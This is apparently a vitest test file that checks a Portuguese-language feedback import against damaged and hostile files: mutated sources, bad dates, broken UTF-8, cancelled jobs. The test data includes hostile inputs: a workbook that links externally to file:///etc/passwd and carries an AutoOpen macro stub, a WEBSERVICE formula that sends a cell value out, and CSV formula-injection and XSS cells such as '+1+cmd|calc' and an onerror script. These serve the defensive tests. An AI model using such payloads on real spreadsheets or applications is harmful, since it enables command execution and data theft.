import { describe, expect, it } from 'vitest'
import { FILE_REFUSALS, ROW_REFUSALS } from '../../src/shared/domain/listening/refusal.ts'
import { makeWorkbook, sheetXml } from '../fixtures/sources/makeWorkbook.ts'
import { makeZip } from '../fixtures/sources/makeZip.ts'
import { mutate } from '../fixtures/sources/mutate.ts'
import { seedFiles } from '../fixtures/sources/seeds.ts'
import { freshRig } from '../fixtures/store/freshRig.ts'
import { canonicalHash } from '../fixtures/store/rig.ts'

// The whole way in, with files that mean harm or were harmed: would catch a workspace changed by a file that was refused,
// an error without a sentence, a row that is lost in silence.

const { rig } = freshRig()

const utf8 = (text: string): Uint8Array<ArrayBuffer> => new TextEncoder().encode(text)
const bring = (bytes: Uint8Array) =>
  rig.handle({
    id: rig.ports.ids.next(),
    route: 'feedback.import',
    input: {
      name: 'arquivo',
      bytes: new Uint8Array(bytes),
      routing: { touchpointId: null, rules: [] },
      recipeId: null,
      language: 'pt-BR',
      keepPersonal: false,
    },
  })
const textsOf = async (): Promise<string[]> =>
  (await rig.ask('feedback.find', { filter: {}, offset: 0, limit: 500 })).rows.map(({ text }) => text)

/** What is wrong with how a file was taken or refused; '' where nothing is. */
async function wrongWith(bytes: Uint8Array): Promise<string> {
  const before = canonicalHash(rig.session)
  const reply = await bring(bytes)
  if (!reply.ok) {
    if (reply.code !== 'IMPORT_REFUSED') return `refused as ${reply.code}`
    if (!(FILE_REFUSALS as readonly unknown[]).includes(reply.data?.reason)) return `no refusal: ${reply.data?.reason}`
    return canonicalHash(rig.session) === before ? '' : 'refused, and the workspace has changed'
  }
  const { read, added, updated, refused, refusals } = reply.data as {
    read: number
    added: number
    updated: number
    refused: number
    refusals: { reason: string }[]
  }
  if (refusals.some(({ reason }) => !(ROW_REFUSALS as readonly string[]).includes(reason)))
    return 'a row without a reason'
  return added + updated + refused <= read ? '' : 'more rows than there are'
}

describe('files that mean harm', () => {
  it('damaged files of every source change nothing where they are refused, and lose nothing where they are taken', async () => {
    for (const [name, bytes] of seedFiles()) {
      for (let seed = 1; seed <= 4; seed += 1) {
        expect(await wrongWith(mutate(bytes, seed)), `${name}, seed ${seed}`).toBe('')
      }
    }
  })

  it('a few broken letters cost those letters and nothing else', async () => {
    const rows = Array.from({ length: 30 }, (_, i) => `13/04/2026;9;Ótimo pão nº ${i}\n`).join('')
    const good = utf8(`Data;Nota de 0 a 10;Comentário\n${rows}14/04/2026;2;Péssimo `)
    const reply = await bring(new Uint8Array([...good, 0xff, ...utf8(' serviço\n')]))
    expect(reply).toMatchObject({ ok: true, data: { read: 31, added: 31, refused: 0 } })
    const texts = await textsOf()
    expect(texts.filter((text) => text.startsWith('Ótimo pão'))).toHaveLength(30)
    expect(texts).toContain('Péssimo \ufffd serviço')
  })

  it('days that cannot be are refused row by row with their line, and the rest comes in', async () => {
    const days = [
      ...Array.from({ length: 30 }, () => '13/04/2026'),
      '00/00/0000',
      '01/01/0000',
      '31/12/9999',
      '31/02/2026',
    ]
    const reply = await bring(utf8(`Data;Nota de 0 a 10\n${days.map((day, i) => `${day};${i % 11}`).join('\n')}\n`))
    expect(reply).toMatchObject({ ok: true, data: { read: 34, added: 30, refused: 4 } })
    const { refusals } = (reply as unknown as { data: { refusals: { line: number; reason: string }[] } }).data
    expect(refusals.map(({ line }) => line)).toEqual([32, 33, 34, 35])
    for (const { reason } of refusals) expect(reason).toMatch(/^DATE_(UNREADABLE|OUT_OF_RANGE|MISSING)$/)
  })

  it('a workbook with macros and links to other files gives its cells and nothing else', async () => {
    const sheet = sheetXml([
      ['Data', 'Nota de 0 a 10', 'Comentário'],
      ['13/04/2026', 9, 'gostei'],
      ['14/04/2026', 3, { xml: '<c t="str"><f>WEBSERVICE("http://example.com/"&amp;A1)</f><v>fila</v></c>' }],
    ])
    const plain = makeWorkbook({ A: sheet })
    expect(await wrongWith(plain)).toBe('')
    await rig.ask('history.undo', {})
    const hostile = makeZip([
      {
        name: 'xl/workbook.xml',
        data: '<workbook><sheets><sheet name="A" r:id="rId1"/></sheets><externalReferences/></workbook>',
      },
      {
        name: 'xl/_rels/workbook.xml.rels',
        data: '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" TargetMode="External" Target="file:///etc/passwd"/></Relationships>',
      },
      { name: 'xl/worksheets/sheet1.xml', data: sheet },
      { name: 'xl/vbaProject.bin', data: 'Sub AutoOpen()' },
      { name: 'xl/externalLinks/externalLink1.xml', data: '<externalLink/>' },
    ])
    expect(await bring(hostile)).toMatchObject({ ok: true, data: { read: 2, added: 2 } })
    expect((await textsOf()).sort()).toEqual(['fila', 'gostei'])
  })

  it('HTML and formulas in every cell are text, in answers and in the file of what was refused', async () => {
    const cells = ['<img src=x onerror=alert(1)>', '=HYPERLINK("http://example.com")', '+1+cmd|calc', '@SUM(A1)']
    const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`
    const rows = cells.map((cell, i) => `${i === 3 ? quoted(cell) : '13/04/2026'};${quoted(cell)};${quoted(cell)}`)
    const csv = utf8(`Data;Canal;Comentário\n${rows.join('\n')}\n`)
    expect(await bring(csv)).toMatchObject({ ok: true, data: { read: 4, added: 3, refused: 1 } })
    expect((await textsOf()).sort()).toEqual(cells.slice(0, 3).sort())
    const { bytes } = await rig.ask('feedback.saveRefused', { name: 'x.csv', bytes: csv, language: 'pt-BR', to: null })
    const saved = new TextDecoder().decode(bytes!)
    expect(saved).not.toMatch(/(^|[;"\n])[=+@]/)
    expect(saved).toContain('SUM(A1)')
  })

  it('one that is cancelled while it is read or written leaves nothing, and the next one comes in', async () => {
    const csv = utf8(
      `Data;Comentário\n${Array.from({ length: 30_000 }, (_, i) => `13/04/2026;comentário ${i}`).join('\n')}\n`,
    )
    const before = canonicalHash(rig.session)
    const order = { name: 'x.csv', bytes: csv, routing: { touchpointId: null, rules: [] }, recipeId: null } as const
    const id = rig.ports.ids.next()
    const running = rig.handle({
      id,
      route: 'feedback.import',
      input: { ...order, language: 'pt-BR', keepPersonal: true },
    })
    // As soon as there is a first sign of it.
    while (!rig.events.some(({ event }) => event === 'job.progress')) await new Promise((done) => setTimeout(done, 5))
    rig.jobs.cancel(id)
    expect(await running).toMatchObject({ ok: false, code: 'CANCELLED' })
    expect(canonicalHash(rig.session)).toBe(before)
    expect(await bring(utf8('Data;Comentário\n13/04/2026;oi\n'))).toMatchObject({ ok: true, data: { added: 1 } })
  })
})
